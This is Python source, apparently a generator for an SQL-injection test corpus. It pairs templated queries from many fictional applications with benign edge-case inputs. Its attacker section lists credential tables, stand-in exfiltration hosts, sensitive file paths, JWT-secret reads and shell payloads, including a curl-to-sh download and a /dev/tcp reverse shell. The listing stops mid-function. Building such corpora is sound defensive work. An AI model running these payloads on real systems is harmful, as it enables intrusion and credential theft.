 ("t15_grafana_tz_multi", "SET TIME ZONE '{a}'; SELECT date_trunc('minute', crossed_at) AS \"time\", count(*) AS \"crossings\" FROM chip_crossings WHERE race_id = {b} GROUP BY 1 ORDER BY 1",
  {"a": ("q", ["Europe/Berlin", "America/New_York"], "typed:tz"), "b": ("n", ["2025", "12"])}),
 ("t15_grafana_rolling", "SELECT bib, split_km, split_seconds, avg(split_seconds) OVER (PARTITION BY bib ORDER BY split_km ROWS BETWEEN {a} PRECEDING AND CURRENT ROW EXCLUDE CURRENT ROW) AS rolling FROM runner_splits WHERE race_id = {b}",
  {"a": ("n", ["3", "1"], "", " PRECEDING AND CURRENT ROW) AS rolling FROM runner_splits"), "b": ("n", ["2025", "7"])}),
 # camera-trap network -- Superset virtual datasets with Jinja filter values
 ("t15_superset_similar_frames", "SELECT frame_id, station_code, captured_at FROM trap_frames WHERE station_code = '{a}' ORDER BY clip_embedding <-> '{b}' LIMIT {c}",
  {"a": ("q", ["KRG-07", "riverbend-2"]), "b": ("q", ["[0.021,-0.114,0.337,0.09]", "[0,0,1,0]"], "typed:vec"), "c": ("n", ["24", "8"])}),
 ("t15_superset_detections", "SELECT time_bucket('1 day', captured_at) AS __timestamp, species AS species, count(*) AS count FROM trap_detections WHERE species IN ('{a}') AND captured_at >= '{b}' GROUP BY species, __timestamp ORDER BY count DESC LIMIT 10000",
  {"a": ("q", ["red fox", "pine marten"]), "b": ("q", ["2025-03-01T00:00:00", "2024-09-15T00:00:00"], "typed:ts")}),
 ("t15_superset_knn_stations", "SELECT station_code, habitat FROM trap_stations ORDER BY geom <-> ST_SetSRID(ST_Point({a}, {b}), 4326) LIMIT {c}",
  {"a": ("n", ["-3.94", "24.1"], "", ", 57), 4326)"), "b": ("n", ["57.08", "60.2"], "", "), 4326)"), "c": ("n", ["5", "12"])}),
 ("t15_superset_sample", "SELECT frame_id, species_guess FROM trap_frames TABLESAMPLE SYSTEM ({a}) WHERE reviewed = false AND station_code = '{b}'",
  {"a": ("n", ["5", "0.5"]), "b": ("q", ["KRG-07", "LAKE-N1"])}),
 ("t15_superset_filter_agg", "SELECT station_code, count(*) FILTER (WHERE species = '{a}') AS target, count(*) AS total FROM trap_detections GROUP BY station_code HAVING count(*) > {b} ORDER BY target DESC",
  {"a": ("q", ["badger", "wild boar"]), "b": ("n", ["10", "250"])}),
 # sign-language interpreting agency -- Hasura-generated SQL with an inlined literal
 ("t15_hasura_interpreters", "SELECT coalesce(json_agg(\"root\"), '[]') AS \"root\" FROM (SELECT row_to_json((SELECT \"_e\" FROM (SELECT \"_root.base\".\"name\" AS \"name\", \"_root.base\".\"languages\" AS \"languages\") AS \"_e\")) AS \"root\" FROM (SELECT * FROM \"public\".\"interpreters\" WHERE ((\"public\".\"interpreters\".\"region\") = (('{a}')::text)) LIMIT {b}) AS \"_root.base\") AS \"_root\"",
  {"a": ("q", ["North West", "Glasgow & Clyde"], "", ")::text)) LIMIT 1) AS \"_root.base\") AS \"_root\""), "b": ("n", ["20", "100"], "", ") AS \"_root.base\") AS \"_root\"")}),
 ("t15_hasura_bookings", "SELECT coalesce(json_agg(\"root\" ORDER BY \"root.pg.starts_at\" ASC), '[]') AS \"root\" FROM (SELECT json_build_object('id', \"_root.base\".\"id\", 'client', \"_root.base\".\"client\", 'starts_at', \"_root.base\".\"starts_at\") AS \"root\", \"_root.base\".\"starts_at\" AS \"root.pg.starts_at\" FROM (SELECT * FROM \"public\".\"interpreting_bookings\" WHERE ((\"public\".\"interpreting_bookings\".\"modality\") = (('{a}')::text)) AND ((\"public\".\"interpreting_bookings\".\"starts_at\") >= (('{b}')::timestamptz))) AS \"_root.base\") AS \"_root\"",
  {"a": ("q", ["BSL-English", "deafblind manual"], "", ")::text))) AS \"_root.base\") AS \"_root\""),
   "b": ("q", ["2025-06-02T09:00:00+01:00", "2024-11-18T13:30:00Z"], "typed:ts", ")::timestamptz))) AS \"_root.base\") AS \"_root\"")}),
 ("t15_hasura_certs_lateral", "SELECT json_build_object('id', i.id, 'certs', coalesce(c.certs, '[]')) FROM interpreters i LEFT JOIN LATERAL (SELECT json_agg(json_build_object('body', body, 'level', level)) AS certs FROM certifications WHERE interpreter_id = i.id AND level >= {a}) c ON true WHERE i.id = {b}",
  {"a": ("n", ["3", "6"], "", ") c ON true"), "b": ("n", ["1207", "64"])}),
 ("t15_hasura_notes_fts", "SELECT id, title, ts_rank(search_vec, websearch_to_tsquery('english', '{a}')) AS rank FROM assignment_notes WHERE search_vec @@ to_tsquery('english', '{b}') ORDER BY rank DESC LIMIT 20",
  {"a": ("q", ["medical appointment", "\"court hearing\" -family"], "typed:tsq"), "b": ("q", ["medical & appointment", "court:*"], "typed:tsq2")}),
 ("t15_hasura_slot_lock", "SELECT pg_try_advisory_lock({a}, {b}) AS locked",
  {"a": ("n", ["7", "31"]), "b": ("n", ["20250602", "1188"])}),
 # wildfire lookout network -- PostgREST read and RPC statements with the filter inlined
 ("t15_postgrest_towers", "WITH pgrst_source AS (SELECT \"public\".\"lookout_towers\".* FROM \"public\".\"lookout_towers\" WHERE \"public\".\"lookout_towers\".\"district\" = '{a}'::unknown ORDER BY \"public\".\"lookout_towers\".\"{b}\" {c} LIMIT {d} OFFSET 0)" + PGRST_TAIL,
  {"a": ("q", ["Kootenay", "Coconino"], "", ") SELECT 1"), "b": ("qi", ["elevation_m", "name"], "", ") SELECT 1"), "c": ("dir", ["DESC", "ASC"], "", ") SELECT 1"),
   "d": ("n", ["20", "100"], "", ") SELECT 1")}),
 ("t15_postgrest_sightings", "WITH pgrst_source AS (SELECT \"public\".\"smoke_sightings\".\"id\", \"public\".\"smoke_sightings\".\"bearing_deg\", row_to_json(\"smoke_sightings_tower_1\".*) AS \"tower\" FROM \"public\".\"smoke_sightings\" LEFT JOIN LATERAL (SELECT \"lookout_towers_1\".\"name\" FROM \"public\".\"lookout_towers\" AS \"lookout_towers_1\" WHERE \"lookout_towers_1\".\"id\" = \"public\".\"smoke_sightings\".\"tower_id\") AS \"smoke_sightings_tower_1\" ON TRUE WHERE \"public\".\"smoke_sightings\".\"bearing_deg\" >= {a} AND \"public\".\"smoke_sightings\".\"reported_at\" >= '{b}'::unknown)" + PGRST_TAIL,
  {"a": ("n", ["180", "45"], "", ") SELECT 1"), "b": ("q", ["2025-07-14T12:00:00Z", "2024-08-02"], "typed:ts", ") SELECT 1")}),
 ("t15_postgrest_rpc_near", "WITH pgrst_source AS (SELECT pgrst_call.* FROM \"public\".\"towers_within\"(lat := {a}, lon := {b}, km := {c}) pgrst_call)" + PGRST_TAIL,
  {"a": ("n", ["49.32", "35.2"], "", ", lon := 0, km := 1) pgrst_call) SELECT 1"), "b": ("n", ["-117.65", "-111.6"], "", ", km := 1) pgrst_call) SELECT 1"),
   "c": ("n", ["40", "15"], "", ") pgrst_call) SELECT 1")}),
 ("t15_postgrest_reports_fts", "WITH pgrst_source AS (SELECT \"public\".\"fire_reports\".* FROM \"public\".\"fire_reports\" WHERE \"public\".\"fire_reports\".\"narrative_tsv\" @@ websearch_to_tsquery('{a}'::unknown) AND \"public\".\"fire_reports\".\"district\" = ANY ('{{b}}'::text[]))" + PGRST_TAIL,
  {"a": ("q", ["lightning strike ridge", "\"dry thunderstorm\" or smoke"], "typed:tsq", ")) SELECT 1"), "b": ("q", ["Kootenay,Selkirk", "Coconino"], "typed:arr", "::text[])) SELECT 1")}),
 ("t15_postgrest_shift_upsert", "INSERT INTO \"public\".\"lookout_shifts\"(\"tower_id\", \"observer\", \"starts_at\") SELECT {a}, '{b}', '{c}'::timestamptz ON CONFLICT (\"tower_id\", \"starts_at\") DO UPDATE SET \"observer\" = EXCLUDED.\"observer\" RETURNING \"public\".\"lookout_shifts\".\"id\"",
  {"a": ("n", ["14", "3"]), "b": ("q", ["Jack Kerouac", "N. Maclean"]), "c": ("q", ["2025-07-01 06:00", "2024-06-15 18:00"], "typed:ts")}),
 # velodrome -- Redash queries, {{ parameters }} substituted as text
 ("t15_redash_laps", REDASH_HEAD + "SELECT rider, lap_no, lap_ms FROM track_laps WHERE session_id = {a} AND lap_ms < {b} ORDER BY lap_ms LIMIT 100",
  {"a": ("n", ["5521", "807"]), "b": ("n", ["14500", "13200"])}),
 ("t15_redash_riders", "SELECT rider_id, full_name, category FROM track_riders WHERE category = '{a}' AND full_name ILIKE '%{b}%' ORDER BY full_name",
  {"a": ("q", ["Elite Men", "U17 Women"]), "b": ("q", ["van", "Kenny"])}),
 ("t15_redash_sprint_rank", "SELECT rider_id, best_200m_ms, rank() OVER (ORDER BY best_200m_ms) AS qual_rank FROM sprint_qualifying WHERE meet_id = {a} AND gender = '{b}' ORDER BY qual_rank",
  {"a": ("n", ["77", "102"]), "b": ("q", ["W", "M"])}),
 ("t15_redash_schema_multi", "SET search_path TO meet_{a}, public; SELECT event, count(*) AS entries FROM track_entries GROUP BY event ORDER BY 2 DESC",
  {"a": ("ident", ["2025_nationals", "winter_series"])}),
 ("t15_redash_heat_tree", "WITH RECURSIVE heat_chain(heat_id, feeds_into, depth) AS (SELECT heat_id, feeds_into, 1 FROM keirin_heats WHERE heat_id = {a} UNION ALL SELECT k.heat_id, k.feeds_into, h.depth + 1 FROM keirin_heats k JOIN heat_chain h ON k.heat_id = h.feeds_into) CYCLE heat_id SET is_cycle USING path SELECT heat_id, feeds_into, depth FROM heat_chain WHERE NOT is_cycle AND depth <= {b}",
  {"a": ("n", ["301", "12"]), "b": ("n", ["4", "6"])}),
 # millinery -- Kotlin jOOQ, DSL.condition("... $x") and plain SQL templates
 ("t15_jooq_hat_blocks", "select \"hat_blocks\".\"block_id\", \"hat_blocks\".\"crown_shape\", \"hat_blocks\".\"head_cm\" from \"hat_blocks\" where (\"hat_blocks\".\"head_cm\" between {a} and {b} and crown_shape = '{c}') order by \"hat_blocks\".\"head_cm\"",
  {"a": ("n", ["55", "57.5"]), "b": ("n", ["58", "61"]), "c": ("q", ["teardrop", "pork pie"])}),
 ("t15_jooq_felt_merge", "merge into \"felt_stock\" using (select '{a}' as \"colour\", {b} as \"qty\") as \"src\" on \"felt_stock\".\"colour\" = \"src\".\"colour\" when matched then update set \"qty\" = \"felt_stock\".\"qty\" + \"src\".\"qty\" when not matched then insert (\"colour\", \"qty\") values (\"src\".\"colour\", \"src\".\"qty\")",
  {"a": ("q", ["bottle green", "silver belly"], "", " as c) s on false when matched then do nothing"), "b": ("n", ["12", "3"], "", " as q) s on false when matched then do nothing")}),
 ("t15_jooq_fitting", "select \"hat_orders\".\"order_id\", \"hat_orders\".\"fitting\" -> '{a}' as \"value\" from \"hat_orders\" where \"hat_orders\".\"client_id\" = {b} and \"hat_orders\".\"fitting\" ?| array['{c}', 'head_cm']",
  {"a": ("q", ["brim_mm", "crown_height_mm"], "typed:hkey"), "b": ("n", ["5120", "77"]), "c": ("q", ["oval", "brim_mm"], "typed:hkey")}),
 ("t15_jooq_trims", "select \"trims\".\"trim_id\", \"trims\".\"material\" from \"trims\" where \"trims\".\"material\" ilike '{a}' order by {b} nulls first",
  {"a": ("q", ["grosgrain%", "%petersham%"], "typed:like"), "b": ("col", ["\"trims\".\"width_mm\"", "\"trims\".\"material\" desc", "\"trims\".\"trim_id\""])}),
 ("t15_jooq_order_notes", "update \"hat_orders\" set \"notes\" = '{a}' where \"hat_orders\".\"order_id\" = {b} returning \"hat_orders\".\"order_id\"",
  {"a": ("q", ["steam the brim again", "client prefers a 5 cm brim"]), "b": ("n", ["9931", "120"])}),
 # yarn dyeworks -- Rust sea-orm, Statement::from_string(DbBackend::Postgres, format!(...))
 ("t15_seaorm_dye_lots", "SELECT \"dye_lots\".\"lot_code\", \"dye_lots\".\"colourway\", \"dye_lots\".\"recipe\" FROM \"dye_lots\" WHERE \"dye_lots\".\"colourway\" = '{a}' AND \"dye_lots\".\"recipe\" @@ '{b}'",
  {"a": ("q", ["Heather Moor", "Tidepool"]), "b": ("q", ["$.mordant == \"alum\"", "$.bath_temp_c > 80"], "typed:jpath")}),
 ("t15_seaorm_vats", "SELECT vat_no, temp_c, ph FROM dye_vats WHERE vat_no = ANY(ARRAY[{a}]) AND temp_c > {b} ORDER BY temp_c DESC FOR NO KEY UPDATE OF dye_vats NOWAIT",
  {"a": ("list", ["1, 2, 5", "4"]), "b": ("n", ["60", "85.5"])}),
 ("t15_seaorm_skein_colour", "SELECT skein_id, colourway, 1 - (lab_colour <=> ARRAY[{a}]::vector) AS closeness FROM yarn_skeins ORDER BY closeness DESC LIMIT {b}",
  {"a": ("list", ["52.1, -3.4, 18.9", "71, 10, -22"]), "b": ("n", ["10", "3"])}),
 ("t15_seaorm_import_copy", "COPY dye_lot_imports (lot_code, colourway, dyed_on) FROM STDIN WITH (FORMAT csv, DELIMITER '{a}', NULL '{b}', HEADER true)",
  {"a": ("q", [";", "|"], "typed:delim"), "b": ("q", ["", "\\N"], "typed:nullstr")}),
 ("t15_seaorm_cron_alter", "SELECT cron.alter_job({a}, schedule := '{b}', active := true)",
  {"a": ("n", ["12", "3"]), "b": ("q", ["15 6 * * 1-5", "@daily"], "typed:cron")}),
]
TAG = "$memo$"
CLOSER = closers(TAG)
segments, edit = corpus_kit.slot_editing(CLOSER)     # the kit's slot editing, with this corpus's closing quotes

# values every slot of a type accepts besides the template's own: the
# skeletons of these benign fills are the template's reference skeletons
CANON = {"q": ["w", "", "Mc'Auley", "two words", "2030-01-31", "100%", "isn't"], "e": ["w", "", "can't", "D:\\dye\\vat", "a\tb", "x\ny"],
         "d": ["w", "", "we're", "\"q\""], "qi": ["w", "Has \"Quote\"", "with space"], "n": ["7", "0", "-3", "2.75", "1200000", "0.5"],
         "list": ["9", "9, 10", "11,12,13", "1, 2, 3, 4"], "dir": ["ASC", "DESC", "asc", "desc"], "col": [], "ident": []}
ref_skeletons = by_template(partial(corpus_kit.ref_skeletons, canon=CANON))
CLAUSES = ("SELECT", "FROM", "WHERE", "GROUP", "HAVING", "ORDER", "LIMIT", "OFFSET", "FETCH", "SET", "VALUES", "RETURNING", "TO", "INTO", "ON",
           "TABLESAMPLE", "OVER", "ROWS", "LISTEN", "USING", "WITH")
COND_CLAUSES = ("WHERE", "HAVING", "ON")


@by_template
def slot_info(tpl, slot):
    """What a breakout into this slot has to know (corpus_kit.slot_facts),
    with lead the first word of the statement the slot is in (a template
    may hold two), and besides: whether it sits in a VALUES list, whether a
    condition can be appended there, whether that statement is a query."""
    info = corpus_kit.slot_facts(tpl, slot, CLOSER, CLAUSES, limit_clauses=("LIMIT", "OFFSET", "FETCH", "TABLESAMPLE"))
    toks = corpus_kit.slot_split(tpl, slot, CLOSER)[2]
    cut = max([i + 1 for i, t in enumerate(toks) if t[0] == ";"] or [0])
    lead = next((v for k, v in toks[cut:] if k == "W"), "")
    clause = info["clause"]
    sp = tpl[2][slot]
    info.update({"lead": lead, "in_values": "VALUES" in info["ctx"] or clause == "VALUES", "cond_cut": sp[4] if len(sp) > 4 else None,
                 "cond_ok": clause in COND_CLAUSES or (lead == "UPDATE" and clause == "SET" and not info["closers"]),
                 "select": lead in ("SELECT", "WITH")})
    return info


# ---------------------------------------------------------------- benign input pools
POOLS = {
 "input_apostrophe_names": ["Siobhán O'Loughlin", "D'Souza Pressing Co.", "Ma'ili Tuipulotu", "Rory McCann's crew", "Dell'Acqua", "L'Anse aux Meadows",
   "O'Hare Ringers", "St Mary's, Whitechapel", "Hawke's Bay", "D'Artagnan Hats", "Nuku'alofa", "Côte d'Azur felt", "Li'l Meeples", "King's Lynn",
   "A'Chràisg", "Mac Giolla Phádraig's", "Dún Laoghaire's pier", "Ōtautahi's oaks", "Kapa'a lookout", "Ne'Kara Willis", "Ta'Shawn Cole",
   "the dyer's mordant", "Lough Neagh's shore", "Bishop's Stortford", "Cap-d'Espoir", "Mont-d'Or", "D'Angelo & Sons", "O'Keeffe-Brennan"],
 "input_plain": ["lacquer master", "test pressing", "stamper", "pellet mix", "centre label", "ice road", "pressure ridge", "convoy", "load permit",
   "scleral shell", "iris button", "limbus", "rope access", "rigging plate", "descender", "work positioning", "rounds", "plain bob", "tenor bell",
   "rope sight", "herbarium sheet", "isotype", "determinavit", "duplicate", "meeple", "card sleeves", "legacy game", "street tree", "crown lift",
   "root barrier", "timing mat", "chip split", "gun time", "camera trap", "burst mode", "pine marten", "interpreter", "relay service",
   "lookout tower", "smoke column", "fire finder", "track stand", "keirin", "madison", "hat block", "sinamay", "petersham", "skein", "mordant",
   "indigo vat", "superwash merino"],
 "input_numeric_string": ["0042", "180.0", "1e3", "-0.0", "2025", "+7", "0.125", "000", "3,5", "1_000", "123456789012345678901234567890", "7.", ".25",
   "0x1F", "08", "١٢٣", "12e-3", "NaN", "Infinity", "-"],
 "input_formatted": ["WARP-LP-331", "IR-3/44120", "F40-44 #10233", "979-8-88645-012-3", "#6b8e23", "u4pruydqqvj", "33UXP0472", "62.4540° N, 114.3718° W",
   "1:02:33.4", "T+02:14:33.120", "BSL/ENG Level 6", "K000697321", "2025-W17-7", "+1 867 555 0143", "CA-NT-0094", "SRID=4326", "EPSG:3857",
   "dbh 41 cm", "08:55–09:40", "GB-ENG-OXF-0412", "ISO 18369-1", "33⅓ rpm", "12\" 180 g", "NM 04-17-2025", "P2DT3H", "v3.4.1+build.7",
   "A4 / 210×297 mm", "bay 7, rack C", "LL-20250311-009", "4×4 Surprise Major", "5040 changes", "DE-BY-09162000"],
 "input_unicode": ["Ísafjörður", "Ōkārito", "Łęczna", "Гродно", "ঢাকা", "ᓄᓇᕗᑦ", "Nǀuu", "Trøndelag", "Śrīnagar", "Kraków–Tarnów", "مشهد",
   "大阪市", "𝔣𝔢𝔩𝔱", "ﬁbre", "Z\u0307", "e\u0301cru", "🎯 kill shot", "🧶 skein", "🔔 peal", "Ñandú", "Gießen", "ǅemal", "Ⅻ",
   "\u2066rtl\u2069", "ÅÄÖ", "Þórsmörk"],
 "input_json_text": ['{"rpm": 33, "weight_g": 180}', '{"where": "true"}', '[{"bell": 8, "note": "C#"}]', '{"q": "\' OR \'1\'=\'1"}', 'false',
   '{"cmd": "COPY x TO PROGRAM \'id\'"}', '{"geom": {"type": "Point", "coordinates": [1, 2]}}', '["--", "/*", "*/", ";"]', '{"limit": 50, "order": "asc"}',
   '{"path": "D:\\\\scans\\\\iris.png"}', '{"vec": [0.1, 0.2]}', '{"note": "it\'s fine"}', '[]', '{"a": {"b": {"c": null}}}', '"plain string"', '3.14'],
 "input_url_email": ["https://ringing.example.org/towers?diocese=Oxford&bells=8", "mailto:hats+orders@example.co.uk", "ceri.o'neill@example.ie",
   "https://example.com/?q=select+*+from+users", "http://192.0.2.7:8080/api/frames?limit=24", "sftp://upload.example.net/lacquers/331.wav",
   "https://maps.example.org/@62.45,-114.37,12z", "x.y+z@example.museum", "https://example.org/path/with%27quote", "ws://relay.example.net/video",
   "https://example.net/a;b=c?d=--", "urn:lsid:ipni.org:names:30000959-2", "doi:10.1000/182"],
 "input_sql_words": ["Union Street Hats", "Select Records", "Drop Zone Rope Access", "Table Top Games", "Insert Coin Café", "Truncate Ridge",
   "Where the Bells Ring", "Order of St Barnabas", "Grant Road Trees", "Execute a Peal", "Null Island", "Like a Rolling Stone", "From Dusk Lookout",
   "Case Closed Press", "Having It All Hats", "Update Ringers", "Delete Button Games", "Or Yehuda", "And Then There Were None", "Create Space Velodrome",
   "Alter Bridge", "Declaration Vinyl", "Cast Iron Pressing", "Begin Again Yarns", "Commit to Rope", "Rollback Ranch", "Values Dye Co.",
   "Limit Ridge Road", "Offset Lithographics", "Fetch Rover", "Copy Cat Trap", "Vacuum Pressing", "Analyze This Bell", "Join Us Ringers",
   "Sleep Hollow", "Exists Avenue", "Schema Therapy Hats", "Index Creek"],
 "input_punctuation": ["!?", ";", "---", "\\", "#8", "100%", "(n/a)", "[ ]", "{x}", "<>", "a;b", "--x", "/*", "*/", "||", "¡!", "…", "@@", "€5",
   "x=y", "'", "\"", "&", "::", "$$", "%_", "1/2", "~~", "^", "`", "''", "+/-", "#!/bin/sh", "?", ":=", "=>", "<@", "@>"],
 "input_whitespace": ["  lead", "trail  ", "in\tside", "two\nlines", "\r\n", "wide    gap", "   ", "\t", "end\n", "c\rr", "\u00a0nbsp", "\u2003em", "\u3000ideo"],
}
SENTS = ["Side B pressed with light non-fill at the run-out; stamper swapped after 1,500 cycles.", "Ice at km 172 measured 81 cm -- convoy spacing 500 m, 25 km/h.",
 "Select the darker iris button for the left shell; the patient's right eye is hazel.", "Union rules mean the rope team stops at 18:00 sharp.",
 "She wrote: \"don't ring the tenor before the service\".", "Is 41 cm > 38 cm? Only after the crown lift, re-measure.",
 "Drop the sheets at the loans desk; the barcode scanner is on the left.", "Table 7 booked for Gloomhaven (legacy campaign, session 14).",
 "Delete the duplicate detection once the reviewer confirms it was a badger.", "We'll start the madison at 19:30, or later if the track is wet.",
 "Smoke column bearing 212° from Tower 14, drifting east; no flame visible.", "Note: /* legacy */ method names stay as rung in 1911.",
 "Block the sinamay on the 57 cm teardrop and steam twice.", "Indigo vat at pH 11.2; add thiox before the next dip.",
 "Interpreter requested for a court hearing -- two hours, BSL-English.", "Split at 21.1 km missing for bib 10233; mat 5 was offline."]


SEARCH_WORDS = ["court", "hearing", "medical", "appointment", "family", "school", "lightning", "ridge", "smoke", "plume", "crackle", "warp", "sleeve",
                "grosgrain", "felt", "sinamay", "merino", "indigo", "madder", "weld", "peal", "tenor", "convoy", "portage", "badger", "lichen"]


def vector_literal(r, n=None):
    return "[" + ",".join("%.3f" % r.uniform(-1, 1) for _ in range(n or r.randint(3, 8))) + "]"


def typed_value(r, knd):
    """(value, family) for a slot read as a value of kind knd."""
    if knd == "vec":
        return r.choice([vector_literal(r), "[%s]" % ",".join(str(r.randint(0, 9)) for _ in range(r.randint(2, 6))), vector_literal(r, 4).replace(",", ", ")]), "input_numeric_string"
    if knd == "wkt":
        x, y = r.uniform(-120, 30), r.uniform(35, 65)
        return r.choice(["POINT(%.4f %.4f)" % (x, y), "LINESTRING(%.3f %.3f, %.3f %.3f)" % (x, y, x + 0.01, y + 0.02),
                         "POLYGON((%.2f %.2f,%.2f %.2f,%.2f %.2f,%.2f %.2f))" % (x, y, x + 0.1, y, x + 0.1, y + 0.1, x, y),
                         "MULTIPOINT((%.3f %.3f),(%.3f %.3f))" % (x, y, x + 1, y + 1), "POINT EMPTY"]), "input_formatted"
    if knd == "geojson":
        x, y = r.uniform(-120, 30), r.uniform(35, 65)
        return r.choice(['{"type":"Point","coordinates":[%.4f,%.4f]}' % (x, y), '{"type": "LineString", "coordinates": [[%.3f, %.3f], [%.3f, %.3f]]}' % (x, y, x + 0.01, y),
                         '{"type":"Polygon","coordinates":[[[0,0],[0,%d],[%d,%d],[0,0]]]}' % ((lambda k: (k, k, k))(r.randint(1, 9)))]), "input_json_text"
    if knd == "ltree":
        return ".".join(r.choice(["England", "Wales", "Plantae", "Rosaceae", "Oxford", "Devon", "Fagaceae", "Quercus", "Prunus", "Norwich", "Sorbus", "York"])
                        for _ in range(r.randint(1, 4))), "input_formatted"
    if knd == "lquery":
        w = r.choice(["Oxford", "Devon", "Quercus", "Norwich", "Rosaceae"])
        return r.choice(["*.%s.*" % w, "*.%s" % w, "England.*{1,2}.%s" % w, "%s|York.*" % w, "*.!%s.*" % w, "%s*" % w[:3]]), "input_formatted"
    if knd == "hkey":
        return r.choice(["brim_mm", "crown_height_mm", "head_cm", "limbus_mm", "pit_type", "owner", "condition", "clear", "oxblood", "splatter", "gold_nugget"]), "input_plain"
    if knd == "hstore":
        k, v = r.choice(["finish", "base", "weight_g", "speed"]), r.choice(["matte", "marbled", "180", "45", "black"])
        return r.choice(["%s=>%s" % (k, v), '"%s"=>"%s"' % (k, v), "%s=>%s, speed=>33" % (k, v)]), "input_formatted"
    if knd == "jpstr":
        return r.choice(["A. Stace", "Lindley", "Druce", "J. D. Hooker", "C. Linnaeus", "N. E. Brown", "Prain"]), "input_plain"
    if knd == "jpath":
        return r.choice(["$.layers[*] ? (@.pigment == \"%s\")" % r.choice(["burnt umber", "sclera white", "cobalt"]), "$.veins", "$.mordant == \"%s\"" % r.choice(["alum", "iron", "tannin"]),
                         "$.bath_temp_c > %d" % r.randint(40, 95), "exists($.layers[%d])" % r.randint(0, 5), "$.steps.size() >= %d" % r.randint(1, 6)]), "input_formatted"
    if knd == "cron":
        return r.choice(["%d %d * * *" % (r.randint(0, 59), r.randint(0, 23)), "*/%d * * * *" % r.choice([5, 10, 15, 30]), "0 %d * * 1-5" % r.randint(0, 23),
                         "@hourly", "@daily", "30 2 1 * *", "%d seconds" % r.choice([10, 30, 45])]), "input_formatted"
    if knd == "interval":
        return r.choice(["%d %s" % (r.randint(1, 90), r.choice(["minutes", "hours", "days", "seconds", "weeks"])), "%dm" % r.choice([1, 5, 10, 30]),
                         "%dh" % r.choice([1, 2, 6, 12]), "%dd" % r.choice([1, 7]), "PT%dM" % r.choice([5, 15, 30]), "1 day 06:00:00"]), "input_formatted"
    if knd == "tsq":
        a, b = r.sample(SEARCH_WORDS, 2)
        return r.choice(["%s %s" % (a, b), "\"%s %s\"" % (a, b), "%s -%s" % (a, b), "%s or %s" % (a, b), a]), "input_plain"
    if knd == "tsq2":
        a, b = r.sample(SEARCH_WORDS, 2)
        return r.choice(["%s & %s" % (a, b), "%s:*" % a, "%s | %s" % (a, b), "!%s" % a, "%s <-> %s" % (a, b)]), "input_formatted"
    if knd == "date":
        return rdate(r, 2016, 2029), "input_formatted"
    if knd == "ts":
        return "%s%s%02d:%02d%s" % (rdate(r, 2019, 2027), r.choice([" ", "T"]), r.randint(0, 23), r.choice([0, 15, 30, 45]), r.choice(["", ":00", "+01", "-07", "Z", ":00.000Z"])), "input_formatted"
    if knd == "email":
        return "%s%s@%s" % (r.choice(["Meeple", "dice", "ROLL", "gm", "Table7"]), r.choice([".fan", "", "+cafe", "_42"]), r.choice(["example.com", "Example.ORG", "mail.example.net"])), "input_url_email"
    if knd == "tz":
        return r.choice(["Europe/Berlin", "UTC", "America/Edmonton", "Pacific/Auckland", "Asia/Kolkata", "+02", "Europe/London", "America/Yellowknife"]), "input_formatted"
    if knd == "like":
        w = r.choice(SEARCH_WORDS)[:r.randint(3, 8)]
        return r.choice(["%s%%" % w, "%%%s%%" % w, "%%%s" % w, "%s_" % w, w]), "input_formatted"
    if knd == "arr":
        return ",".join(rword(r, r.randint(3, 8)) for _ in range(r.randint(1, 3))), "input_plain"
    if knd == "delim":
        return r.choice([",", ";", "|", "\t", ":", "^", "~"]), "input_punctuation"
    if knd == "nullstr":
        return r.choice(["", "NULL", "\\N", "-", "n/a", "(none)"]), "input_punctuation"
    raise KeyError(knd)


# ---------------------------------------------------------------- what an attacker goes after
# (table, login column, secret column, a known login)
LOOT = [("pressing_plant_users", "login", "pw_hash", "plant_admin"), ("convoy_dispatchers", "radio_callsign", "pin_sha256", "DISPATCH-1"),
        ("ocular_staff", "username", "password", "lab_manager"), ("rope_techs", "irata_no", "portal_pass", "IR-3-44120"),
        ("ringing_guild_members", "email", "password_digest", "tower.captain@example.org"), ("herbarium_curators", "login", "api_token", "curator"),
        ("cafe_members", "email", "password_hash", "owner@example.com"), ("forestry_users", "username", "passwd", "arborist"),
        ("timing_operators", "login", "secret", "chipmaster"), ("trap_reviewers", "username", "token_hash", "reviewer01"),
        ("interpreter_accounts", "email", "pass_bcrypt", "bookings@interpreting.example"), ("lookout_observers", "callsign", "pw", "TOWER-14"),
        ("velodrome_admins", "login", "password_sha1", "admin"), ("milliner_clients", "email", "pw_hash", "atelier@example.com"),
        ("dyeworks_staff", "username", "pass_argon2", "master_dyer")]
GEO_TABLES = [("convoy_positions", "position"), ("anchors", "location"), ("street_trees", "geom"), ("trap_stations", "geom"), ("lookout_towers", "geom"),
              ("ice_road_segments", "geom")]
VEC_TABLES = [("lacquer_masters", "audio_embedding"), ("ocular_irisscan", "colour_vec"), ("cafe_games", "taste_vec"), ("trap_frames", "clip_embedding"),
              ("yarn_skeins", "lab_colour")]
HOSTS = ["exfil.example.net", "c2.oast.example", "dnslog.example.org", "in.collect.example", "b.callback.example.com", "kite.example.io"]
IPS = ["203.0.113.17", "198.51.100.77", "192.0.2.201", "203.0.113.240"]
FILES = ["/etc/passwd", "/etc/machine-id", "/proc/self/environ", "/proc/1/cmdline", "/proc/self/mountinfo", "/var/lib/postgresql/.psql_history",
         "/etc/postgresql/15/main/postgresql.conf", "pg_ident.conf", "postgresql.auto.conf", "/home/app/.aws/credentials", "/srv/app/config/database.yml",
         "/opt/hasura/.env", "/etc/postgrest.conf", "/var/run/secrets/kubernetes.io/serviceaccount/token", "../../../../../etc/hosts"]
CMDS = ["id", "uname -a", "cat /etc/passwd", "env", "ls -la /root", "curl -fsS http://exfil.example.net/s | sh", "wget -q -O /tmp/k http://kite.example.io/k",
        "nslookup x.dnslog.example.org", "bash -i >& /dev/tcp/203.0.113.17/9001 0>&1", "python3 -c 'import pty; pty.spawn(\"/bin/sh\")'",
        "openssl s_client -connect 198.51.100.77:443", "crontab -l"]
ROLES = ["postgres", "authenticator", "hasura", "metabase_ro", "grafana_reader", "app_rw", "anon", "web_anon"]


def loot(r):
    return r.choice(LOOT)


def target(r):
    """A value an attacker wants to read (a scalar expression)."""
    t, u, p, who = loot(r)
    gt, gc = r.choice(GEO_TABLES)
    vt, vc = r.choice(VEC_TABLES)
    n = r.randint(0, 9)
    return r.choice([
        "current_user", "session_user", "version()", "current_database()", "inet_client_addr()::text", "current_setting('data_directory')",
        "current_setting('pgrst.jwt_secret', true)", "current_setting('app.settings.jwt_secret', true)", "current_setting('cron.database_name', true)",
        "current_setting('shared_preload_libraries')", "postgis_full_version()", "(SELECT extversion FROM pg_extension WHERE extname = 'vector')",
